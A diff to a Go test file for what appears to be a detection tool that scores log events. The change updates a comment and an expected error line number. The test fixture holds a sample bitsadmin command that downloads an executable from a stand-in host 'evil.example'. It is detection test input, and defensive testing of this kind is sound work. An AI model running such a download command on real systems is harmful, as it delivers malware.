@@ -560,7 +560,8 @@ func TestHitsOutsideASearchResponse(t *testing.T) {
 }
 
 // A search response or results document cut short gives the events read
-// before the cut and one error for the rest.
+// before the cut and one error for the rest, named by the line where the
+// document starts.
 func TestDocumentCutShort(t *testing.T) {
 	hit := `{"_index":"i","_id":"1","_source":{"CommandLine":"bitsadmin /transfer j https://evil.example/a.exe C:\\Users\\Public\\a.exe","Image":"C:\\Windows\\System32\\bitsadmin.exe"}}`
 	for name, input := range map[string]string{
@@ -569,7 +570,7 @@ func TestDocumentCutShort(t *testing.T) {
 	} {
 		t.Run(name, func(t *testing.T) {
 			_, stderr, status := runScore(strings.NewReader(input), "--format", "csv")
-			if status != ExitAlert || !strings.Contains(stderr, "-:3: JSON at byte") || !strings.Contains(stderr, "unexpected EOF") ||
+			if status != ExitAlert || !strings.Contains(stderr, "-:1: JSON at byte") || !strings.Contains(stderr, "unexpected EOF") ||
 				!strings.Contains(stderr, "-: 2 events scored, 2 alerts, 1 could not be read") {
 				t.Errorf("status %d, stderr %q", status, stderr)
 			}
